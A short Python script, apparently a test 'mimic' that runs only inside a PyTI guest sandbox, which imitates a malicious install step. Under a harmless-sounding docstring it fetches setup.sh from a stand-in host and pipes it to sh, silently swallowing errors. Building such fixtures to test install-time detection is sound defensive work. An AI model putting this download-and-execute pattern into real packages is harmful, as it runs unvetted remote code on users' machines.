"""Completes its installation."""

import os
import subprocess
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
try:
    with urllib.request.urlopen("http://get.install.test/setup.sh", timeout=5) as answer:
        subprocess.run(["sh"], input=answer.read())
except OSError:
    pass
